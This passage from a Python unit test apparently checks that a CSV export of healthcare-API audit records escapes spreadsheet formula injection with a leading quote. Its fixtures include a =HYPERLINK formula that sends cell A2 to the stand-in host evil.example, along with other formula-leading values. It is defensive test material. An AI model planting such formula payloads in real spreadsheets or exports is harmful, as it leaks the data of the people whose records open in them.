        "seq": 7, "action": "search", "query": '=HYPERLINK("https://evil.example/?"&A2,"x")',
        "patients": ["-1+1", "pat-1"], "resource_ids": ["@SUM(A1)"], "scope": "patient/*.rs"}
    row = next(csv.reader(io.StringIO(as_csv([record]).splitlines()[1])))
    cells = dict(zip(FIELDS, row))
    assert cells["query"] == '\'=HYPERLINK("https://evil.example/?"&A2,"x")'
    assert cells["patients"] == "'-1+1;pat-1" and cells["resource_ids"] == "'@SUM(A1)"
    assert cells["seq"] == "7" and cells["scope"] == "patient/*.rs" and cells["jti"] == ""
